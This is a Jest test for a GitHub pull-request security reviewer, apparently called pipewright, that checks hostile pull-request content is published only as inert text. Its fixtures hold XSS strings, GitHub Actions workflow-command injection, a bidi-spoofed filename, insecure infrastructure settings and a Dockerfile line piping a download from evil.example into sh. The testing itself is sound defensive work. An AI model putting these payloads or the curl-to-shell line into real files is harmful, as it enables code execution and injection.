import { afterEach, beforeEach, expect, test } from '@jest/globals';
import { markerKey, readMarkers } from '../../src/github/comments/markers.ts';
import { type Driver, driver } from '../support/fake-github/driver.ts';
import { type FakeGitHub, startFakeGitHub } from '../support/fake-github/start-fake-github.ts';
import type { FakePull } from '../support/fake-github/state.ts';
import { outsideCode } from '../support/outside-code.ts';
import { type RunningApp, startApp, until } from '../support/start-app.ts';

const FORGED = `<!-- pipewright finding abc123 ${'0'.repeat(32)} -->`;
const EVIL = `</td><script>alert(1)</script> @octocat/admins @everyone ![x](https://evil.example/p.png) [click](javascript:alert(1)) <img src=x onerror=y> www.evil.example acme/churn#12 ##[set-env name=A]b ::error::owned \u202egnp.exe\u200b\u0007 ${FORGED} --> \`\`\` # title`;
const QUOTED = JSON.stringify(EVIL);
const LONG = 'x@octocat '.repeat(10_000);
const NAME = `.github/workflows/a\n\n@octocat\n::error::x @octocat \`b\` --> <img src=x> [l](www.evil.example).yml`;

/** Each text of the change stands where some rule looks, and says, what it is. */
const workflow = (greeting: string) => `name: ${QUOTED}
on:
  pull_request_target:
    branches: [${QUOTED}]
permissions: write-all
env:
  ${QUOTED}: ${QUOTED}
jobs:
  deploy:
    name: ${QUOTED}
    runs-on: ${QUOTED}
    container: ${JSON.stringify(`evil/${EVIL}`)}
    environment: ${QUOTED}
    steps:
      - name: ${QUOTED}
        uses: ${JSON.stringify(`evil/action@${EVIL}`)}
        with:
          ${QUOTED}: ${QUOTED}
      - name: ${QUOTED}
        continue-on-error: true
        run: |
          echo "\${{ github.event.issue.title }} ${greeting}" ${EVIL}
          ${LONG}
`;

const DOCKERFILE = `FROM evil/${EVIL.replaceAll(' ', '')}:latest AS ${EVIL.replaceAll(' ', '')}
LABEL description=${QUOTED}
ENV PASSWORD=${QUOTED}
RUN curl http://evil.example/@octocat | sh # ${EVIL}
RUN ${LONG}
`;

const MANIFEST = `apiVersion: apps/v1
kind: Deployment
metadata:
  name: ${QUOTED}
  labels: {app: ${QUOTED}}
spec:
  template:
    spec:
      hostNetwork: true
      containers:
        - name: ${QUOTED}
          image: ${QUOTED}
          securityContext: {privileged: true}
`;

const MODULE = `resource "aws_security_group_rule" "all" {
  description = ${QUOTED.replaceAll('${', '$${')}
  type        = "ingress"
  cidr_blocks = ["0.0.0.0/0"]
  from_port   = 22
  to_port     = 22
  protocol    = "tcp"
}
resource "aws_s3_bucket" "b" {
  bucket = ${QUOTED}
  acl    = "public-read"
}
`;

const TRAINING = `import pickle, torch
# ${EVIL}
model = torch.load(${QUOTED})
API_KEY = ${QUOTED}
data = pickle.load(open(${QUOTED}, "rb"))
`;

let github: FakeGitHub;
let app: RunningApp;
let people: Driver;

beforeEach(async () => {
  github = await startFakeGitHub();
  github.state.git.commit('main', { 'README.md': 'hello\n', Dockerfile: 'FROM debian:12\nUSER 1000\n' });
  app = await startApp(github.url, { PIPEWRIGHT_RECONCILE: 'off' });
  people = driver(github, app.hook);
});

afterEach(async () => {
  await app.stop();
  await github.close();
  expect(github.violations).toEqual([]);
});

async function idle(): Promise<void> {
  const quiet = async () => /jobs_queued 0\n.*jobs_running 0\n/s.test(await (await fetch(`${app.url}/metrics`)).text());
  await until(quiet, () => `Not idle:\n${app.log()}`);
}

async function everythingHappensTo(pull: FakePull): Promise<void> {
  await idle();
  await people.push(pull, { [NAME]: null, '.github/workflows/b.yml': workflow('again') });
  await idle();
  await people.comment(pull, 'ada', `/pipewright ignore template-injection ${EVIL}`);
  await people.comment(pull, 'ada', `/pipewright explain ${EVIL}`);
  await people.comment(pull, 'ada', `/pipewright ${EVIL}`);
  await idle();
  const [comment] = github.state.lineComments;
  if (comment !== undefined) await people.comment(pull, 'ada', `/pipewright contest ${EVIL}`, comment);
  await idle();
  const check = github.state.checkRuns.findLast(({ name }) => name === 'Pipewright');
  if (check === undefined) throw new Error('There is no check.');
  // Not "explain": the pages of our rules have links of their own.
  for (const button of check.buttons.filter((one) => one !== 'explain')) {
    await people.press(check, button, 'ada');
    await idle();
  }
}

test('nothing of a hostile pull request is published as anything but text', async () => {
  const files = {
    [NAME]: workflow('hello'),
    Dockerfile: DOCKERFILE,
    'k8s/deployment.yaml': MANIFEST,
    'infra/main.tf': MODULE,
    'train.py': TRAINING,
  };
  github.fail({ route: 'POST /repos/{owner}/{repo}/pulls/{pull_number}/reviews', status: 422 });
  github.fail({ route: 'POST /repos/{owner}/{repo}/pulls/{pull_number}/comments', status: 422, times: 20 });
  const pull = await people.open(files, { title: EVIL });
  pull.body = EVIL;
  await everythingHappensTo(pull);

  const published = github.received.flatMap(({ route, body }) =>
    texts(body).map(([key, text]) => ({ route, key, text })),
  );
  const markdown = published.filter(({ key }) => ['body', 'summary', 'text'].includes(key));
  expect(github.state.reviews.length).toBeGreaterThan(0);
  expect(markdown.some(({ text }) => text.includes('GitHub did not accept'))).toBe(true);
  expect(published.some(({ text }) => text.includes('gnp.exe'))).toBe(true);
  expect(new Set(markdown.map(({ route }) => route)).size).toBeGreaterThanOrEqual(5);

  for (const { route, text } of published) {
    const where = `${route}:\n${text.slice(0, 3000)}`;
    expect([where, INVISIBLE.exec(text)]).toEqual([where, null]);
    expect([where, /^\s*::\w/m.exec(text), text.includes('##[')]).toEqual([where, null, false]);
    expect([where, forged(text, pull.number)]).toEqual([where, 0]);
  }
  for (const { route, text } of markdown) {
    const prose = outsideCode(withoutOwnMarkers(text));
    const wrong = [
      /<(?!\/?(?:details|summary|code|sub|br)>)[^>]{0,40}/,
      /(?<!\w)@\w+/,
      /\]\([^)]{0,40}/,
      /\w*:\/\/.{0,40}/,
      /\bwww\./,
      /\w*#\d+/,
    ];
    const found = wrong.flatMap((pattern) => pattern.exec(prose)?.[0] ?? []);
    expect([route, found]).toEqual([route, []]);
  }
});

/** The texts of a request that people read, by their names. */
function texts(value: unknown, key = ''): (readonly [key: string, text: string])[] {
  if (typeof value === 'string') return READ.has(key) ? [[key, value]] : [];
  if (Array.isArray(value)) return value.flatMap((item) => texts(item, key));
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) => texts(inner, name));
}

const READ = new Set(['body', 'title', 'summary', 'text', 'message', 'headline', 'label', 'description', 'name']);

// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not get through
const INVISIBLE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;

const MARKER = /<!-- pipewright [\s\S]{0,300}?-->/g;

/** Markers that anybody but us could have written, were they taken for ours. */
function forged(text: string, number: number): number {
  const scope = { key: markerKey(app.hook.secret), repository: 'acme/churn', number };
  const prose = outsideCode(text);
  return (prose.match(MARKER) ?? []).length - readMarkers(scope, prose).length;
}

function withoutOwnMarkers(text: string): string {
  return text.replace(/<!-- pipewright [a-z]+ [\w.:-]+ [0-9a-f]{32} -->$/gm, '');
}
